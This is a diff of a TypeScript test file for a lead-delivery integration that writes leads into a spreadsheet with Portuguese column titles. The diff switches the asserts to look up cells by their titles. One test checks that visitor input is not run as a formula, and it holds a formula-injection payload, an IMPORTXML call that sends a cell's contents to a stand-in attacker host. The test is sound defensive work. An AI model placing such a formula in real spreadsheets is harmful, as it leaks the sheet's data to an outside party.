@@ -11,11 +11,9 @@ const deliver = (vendor: Env, lead?: DeliveredLead) => setUpChannel('sheets', ve
 
 const findFaults = (vendor: Env) => setUpChannel('sheets', vendor).findFaults();
 
-const titles = `Protocolo;Nº;Recebido em;Nome;Telefone;E-mail;Empresa;Plataforma;Mensagem;
-Carrinhos abandonados por mês;Valor médio;Vendas previstas por mês;Formulário;Página;
-Versão do aviso de privacidade;Repete o Nº;Campanha;Fonte;Site que indicou;Entrou por`.split(
-  /;\n?/,
-);
+/** A row's cells by their titles. */
+const cellsOf = ({ grid: [titles = [], ...rows] }: { grid: unknown[][] }, row: number) =>
+  Object.fromEntries(titles.map((title, column) => [title, rows[row]?.[column]]));
 
 const second = storedLead({ id: 8, protocol: 'D0D0-0001', name: 'Bia' });
 
@@ -25,14 +23,22 @@ it('the sheet gets its titles once, then a row for each lead', async () => {
   const vendor = await startSheets();
   const first = storedLead({ abandoned_carts: 1200, average_value: 1499.9 });
   for (const lead of [first, second]) expect(await deliver(vendor, lead)).toEqual(delivered);
-  expect(vendor.grid[0]).toEqual(titles);
-  const protocols = vendor.grid.slice(1).map((row) => row[0]);
-  expect(protocols).toEqual(['C7F3-A91D', 'D0D0-0001']);
-  expect(vendor.grid[1]).toEqual([
-    ...['C7F3-A91D', 7, '21/11/2026 09:05:07', 'Ana Conceição', '(11) 98765-4321'],
-    ...['ana@calcadosaurora.com.br', '', 'Via formulário rápido', '', 1200, 1499.9, ''],
-    ...['Formulário rápido', '/', '1', '', '', '', '', ''],
-  ]);
+  const protocols = vendor.grid.map((row) => row[0]);
+  expect(protocols).toEqual(['Protocolo', 'C7F3-A91D', 'D0D0-0001']);
+  expect(cellsOf(vendor, 0)).toMatchObject({
+    Nº: 7,
+    'Recebido em': '21/11/2026 09:05:07',
+    Nome: 'Ana Conceição',
+    Telefone: '(11) 98765-4321',
+    'E-mail': 'ana@calcadosaurora.com.br',
+    Empresa: '',
+    Plataforma: 'Via formulário rápido',
+    'Carrinhos abandonados por mês': 1200,
+    'Valor médio': 1499.9,
+    Formulário: 'Formulário rápido',
+    Página: '/',
+    'Versão do aviso de privacidade': '1',
+  });
 });
 
 it('the sheet may have moved, renamed and additional columns: each value stays under its title', async () => {
@@ -64,8 +70,7 @@ it('the sheet runs no formula typed by a visitor', async () => {
   const vendor = await startSheets();
   const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
   await deliver(vendor, storedLead({ name: formula, notes: '+1+1' }));
-  expect(vendor.grid[1]?.[3]).toBe(formula);
-  expect(vendor.grid[1]?.[8]).toBe('+1+1');
+  expect(cellsOf(vendor, 0)).toMatchObject({ Nome: formula, Mensagem: '+1+1' });
 });
 
 it('a repeat adds no row if the answer was lost', async () => {
